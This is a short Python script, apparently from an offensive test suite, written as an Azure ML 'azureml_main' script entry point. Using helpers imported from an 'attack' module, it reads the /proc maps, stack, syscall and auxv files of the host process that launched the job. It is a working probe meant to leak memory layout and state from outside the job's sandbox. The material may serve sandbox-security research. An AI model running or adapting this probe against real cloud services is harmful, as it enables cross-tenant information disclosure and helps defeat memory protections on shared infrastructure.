"""Reads what the process that ordered the job has mapped, and where."""

from attack import BAIT, attack, every, read


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(lambda name: read(f"/proc/{BAIT['host_pid']}/{name}"), ["maps", "stack", "syscall", "auxv"])
